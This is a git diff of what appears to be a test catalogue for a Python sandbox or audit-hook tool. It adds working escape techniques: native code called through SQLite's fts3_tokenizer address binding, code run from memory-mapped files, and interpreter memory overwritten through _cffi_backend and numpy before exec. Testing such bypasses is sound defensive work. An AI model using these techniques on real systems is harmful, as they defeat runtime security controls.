@@ -4,9 +4,10 @@
  */
 
 import { execFileSync } from "node:child_process";
-import { copyFileSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { copyFileSync, cpSync, existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { basename, dirname, join } from "node:path";
 import { extensionModule } from "../making.js";
-import { openCodeHookOffset } from "../native.js";
+import { CODE, openCodeHookOffset } from "../native.js";
 import { before, EVIL, type Place, since, type Technique, withData, withText } from "../technique.js";
 
 const native = (name: string, program: string, more: Partial<Technique> = {}) =>
@@ -74,6 +75,36 @@ const OPENS = "#include <dlfcn.h>\nvoid opens(const char *path) { dlopen(path, R
 /** Creates a Tcl interpreter without windows. */
 const TCL = `import _tkinter\n_tkinter.create(None, "x", "Tk", False, True, False)`;
 const HAS_TCL = `__import__("importlib.util").util.find_spec("_tkinter") is not None`;
+
+/**
+ * `start` finds where a file is mapped as code. `call` makes SQLite call an address, as the function of a tokenizer that
+ * makes a tokenizer. The address is bound, which SQLite allows also where tokenizers by address are turned off.
+ */
+const MAPS = `def start(name):
+    for line in open("/proc/self/maps"):
+        words = line.split()
+        if words[-1].endswith("/" + name) and (words[2] == "00000000" or "x" in words[1]):
+            return int(words[0].split("-")[0], 16)
+def call(address):
+    functions = struct.pack("8Q", 0, *[address] * 7)
+    table = struct.pack("Q", id(functions) + sys.getsizeof(b"") - 1)
+    db = sqlite3.connect(":memory:")
+    db.execute("select fts3_tokenizer(?, ?)", ["evil", table])
+    db.execute("create virtual table t using fts3(tokenize=evil)")
+`;
+
+/** Builds a signed library with a function that prints the marker. Nothing calls the function. */
+function buildSaying(output: string): void {
+	execFileSync("cc", ["-shared", "-fPIC", "-O1", "-fno-stack-protector", "-x", "c", "-", "-o", output], {
+		input: CODE,
+	});
+}
+
+/** Returns the offset of that function in hexadecimal. */
+function offsetOfSaying(library: string): string {
+	const symbols = execFileSync("nm", [library], { encoding: "utf8" });
+	return /^(\w+) T say$/m.exec(symbols)?.[1] ?? "";
+}
 
 /** Some builds of Python cannot let SQLite load extensions. */
 const SQLITE = { needs: `hasattr(__import__("sqlite3").Connection, "enable_load_extension")` };
@@ -227,6 +258,38 @@ page.write(open(data + "/evil.bin", "rb").read())
 ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()`,
 	),
 	native(
+		"function of a signed library called by a tokenizer of SQLite",
+		`${MAPS}import _imp, sqlite3, struct
+class Spec:
+    name = "say"
+    origin = __file__[:-7] + "libsay.so"
+try: _imp.create_dynamic(Spec)
+except ImportError: pass
+call(start("libsay.so") + int(open(data + "/offset").read(), 16))`,
+		{
+			prepare: ({ app }) => buildSaying(`${app}/libsay.so`),
+			arrange: ({ app, data }) => writeFileSync(`${data}/offset`, offsetOfSaying(`${app}/libsay.so`)),
+		},
+	),
+	native(
+		"machine code in a file that the program maps, called by a tokenizer of SQLite",
+		`${MAPS}import mmap, sqlite3, struct
+file = open(data + "/evil.bin", "r+b")
+file.truncate(4096)
+page = mmap.mmap(file.fileno(), 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_EXEC)
+call(start("evil.bin"))`,
+	),
+	native(
+		"machine code in a file that the program maps by a module that prefers its own libraries",
+		`${MAPS}import os
+sys.setdlopenflags(os.RTLD_NOW | os.RTLD_DEEPBIND)
+import mmap, sqlite3, struct
+file = open(data + "/evil.bin", "r+b")
+file.truncate(4096)
+page = mmap.mmap(file.fileno(), 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_EXEC)
+call(start("evil.bin"))`,
+	),
+	native(
 		"open-code hook cleared by ctypes",
 		`import ctypes
 offset = int(open(data + "/offset").read())
@@ -308,6 +371,12 @@ os.pwrite(memory, text.strip().ljust(204).encode(), address)
 exec(constant)`,
 		more,
 	);
+
+/** Returns the file of a module of an interpreter. */
+function fileOf(python: string, module: string): string {
+	const ask = `import importlib.util as util; print(util.find_spec(${JSON.stringify(module)}).origin, end="")`;
+	return execFileSync(python, ["-I", "-c", ask], { encoding: "utf8" });
+}
 
 export const memory: readonly Technique[] = [
 	overwrites("memory by /proc/self/mem", `os.open("/proc/self/mem", os.O_RDWR)`),
@@ -420,6 +489,39 @@ for _ in range(3000):
 os.kill(child, signal.SIGKILL)
 os.pwrite(memory, text.strip().ljust(204).encode(), id(constant) + sys.getsizeof("") - 1)
 exec(constant)`,
+	),
+	withText(
+		"memory by _cffi_backend",
+		`sys.path.insert(0, __file__[:-7])
+import _cffi_backend as cffi
+constant = "pass" + " " * 200
+pointer = cffi.new_pointer_type(cffi.new_primitive_type("char"))
+cffi.buffer(cffi.cast(pointer, id(constant) + sys.getsizeof("") - 1), 204)[:] = text.strip().ljust(204).encode()
+exec(constant)`,
+		{
+			needs: `__import__("importlib.util").util.find_spec("_cffi_backend") is not None`,
+			prepare: ({ app, python }) => copyFileSync(fileOf(python, "_cffi_backend"), `${app}/_cffi_backend.so`),
+		},
+	),
+	withText(
+		"memory by an array of numpy",
+		`sys.path.insert(0, __file__[:-7])
+import numpy
+constant = "pass" + " " * 200
+class Interface:
+    __array_interface__ = {"data": (id(constant) + sys.getsizeof("") - 1, False), "shape": (204,), "typestr": "|u1", "version": 3}
+numpy.asarray(Interface())[:] = numpy.frombuffer(text.strip().ljust(204).encode(), "u1")
+exec(constant)`,
+		{
+			needs: `__import__("subprocess").call([sys.executable, "-Ic", "import numpy"], stderr=-3) == 0`,
+			prepare: ({ app, python }) => {
+				const numpy = dirname(fileOf(python, "numpy"));
+				for (const name of [basename(numpy), "numpy.libs"]) {
+					const source = join(dirname(numpy), name);
+					if (existsSync(source)) cpSync(source, join(app, name), { recursive: true, dereference: true });
+				}
+			},
+		},
 	),
 	overwrites("memory by the root directory of the process", `os.open("/proc/self/root/proc/self/mem", os.O_RDWR)`),
 	withText(
